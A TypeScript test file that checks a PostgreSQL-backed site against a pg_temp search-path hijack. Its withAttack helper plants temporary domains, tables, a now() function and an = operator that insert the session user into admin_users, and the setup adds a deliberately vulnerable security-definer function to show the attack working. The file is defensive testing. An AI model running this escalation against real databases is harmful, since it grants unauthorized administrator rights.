/** The schema pg_temp, where any SQL session may create types, tables, functions and operators. */
import type pg from "pg";
import { afterAll, beforeAll, expect, test } from "vitest";
import { connect, connectTo } from "./connections.ts";

/** Types of the parameters, variables and columns of the functions. */
const TYPES = ["text", "uuid", "bool", "int4", "int8", "timestamptz", "jsonb", "name"];

const connections = connectTo("open");
let authenticator: pg.Pool;

beforeAll(async () => {
  authenticator = connect("open", "authenticator");
  // Shows that the attack works where a function looks for types in pg_temp first.
  await connections.sql(
    `create function public.with_empty_path() returns void
      language plpgsql security definer set search_path = ''
      as $$ declare token text; begin token := 'a'; end $$`,
  );
  await connections.sql("grant execute on function public.with_empty_path() to authenticated");
});

afterAll(async () => {
  await connections.sql("drop function public.with_empty_path()");
  await authenticator.end();
});

/**
 * A session of the user with types, tables, functions and operators that make the user an
 * administrator as soon as the owner of the tables uses one of them.
 */
async function withAttack(user: string, run: (client: pg.ClientBase) => Promise<void>) {
  const client = await authenticator.connect();
  try {
    await client.query("set role authenticated");
    await client.query("select set_config('request.jwt.claims', $1, false)", [
      JSON.stringify({ role: "authenticated", sub: user }),
    ]);
    await client.query(
      `create function pg_temp.become_admin() returns pg_catalog.bool language plpgsql as $$
        begin
          insert into public.admin_users (user_id, is_admin) values ('${user}', true)
          on conflict do nothing;
          return true;
        exception when others then
          return true;
        end $$`,
    );
    for (const type of TYPES) {
      await client.query(
        `create domain pg_temp.${type} as pg_catalog.${type} check (pg_temp.become_admin())`,
      );
    }
    for (const table of ["name_lists", "admin_users", "subscribers", "plan_features"]) {
      await client.query(`create temporary table ${table} (like public.${table})`);
    }
    await client.query(
      `create function pg_temp.now() returns pg_catalog.timestamptz language sql
        as 'select pg_catalog.clock_timestamp() from pg_temp.become_admin()'`,
    );
    await client.query(
      `create function pg_temp.equals(pg_catalog.text, pg_catalog.text) returns pg_catalog.bool
        language sql as 'select pg_temp.become_admin()'`,
    );
    await client.query(
      `create operator pg_temp.= (
        leftarg = pg_catalog.text, rightarg = pg_catalog.text, function = pg_temp.equals
      )`,
    );
    await run(client);
  } finally {
    // Ends the session, and its schema pg_temp with it.
    client.release(true);
  }
}

async function isAdmin(user: string): Promise<boolean> {
  const rows = await connections.sql(
    "select from public.admin_users where user_id = $1 and is_admin",
    [user],
  );
  return rows.length > 0;
}

test("makes the caller of a function with an empty search path an administrator", async () => {
  const user = await connections.newUser();
  await withAttack(user, async (client) => {
    await client.query("select public.with_empty_path()");
  });
  expect(await isAdmin(user)).toBe(true);
});

test("gives the caller of the site's functions no rights", async () => {
  const user = await connections.newSubscriber();
  const [list] = await connections.sql(
    `insert into public.name_lists (user_id, title, is_public) values ($1, 'Lista', true)
      returning id, share_token`,
    [user],
  );
  await withAttack(user, async (client) => {
    await client.query("select public.has_feature('name_lists')");
    await client.query("select * from public.shared_name_list($1)", [list?.share_token]);
    await client.query("select public.renew_share_token($1)", [list?.id]);
    await client.query("select public.unpublish_name_list($1)", [list?.id]);
    await client.query(
      "insert into public.favorites (user_id, page, name) values ($1, 'fornamn', 'Astrid')",
      [user],
    );
    await client.query("update public.name_lists set title = 'Ny' where id = $1", [list?.id]);
    await client.query("select public.delete_name_list($1)", [list?.id]);
    await client.query("select public.restore_name_list($1, 'Ny', '{Astrid}')", [list?.id]);
    // Fires no trigger, since the user is no administrator.
    await client.query("update public.plan_features set free_plan = not free_plan");
  });
  expect(await isAdmin(user)).toBe(false);
});

test("gives an administrator no way to run code as the owner of the audit table", async () => {
  const [admin, friend] = [await connections.newUser(), await connections.newUser()];
  await connections.sql("insert into public.admin_users (user_id, is_admin) values ($1, true)", [
    admin,
  ]);
  // The attack inserts the friend, who is no administrator.
  await withAttack(friend, async (client) => {
    await client.query("select set_config('request.jwt.claims', $1, false)", [
      JSON.stringify({ role: "authenticated", sub: admin }),
    ]);
    for (const value of [true, false]) {
      await client.query(
        "update public.plan_features set free_plan = $1 where feature_key = 'export'",
        [value],
      );
    }
  });
  expect(
    await connections.sql("select from public.plan_feature_changes where user_id = $1", [admin]),
  ).toHaveLength(2);
  expect(await isAdmin(friend)).toBe(false);
});
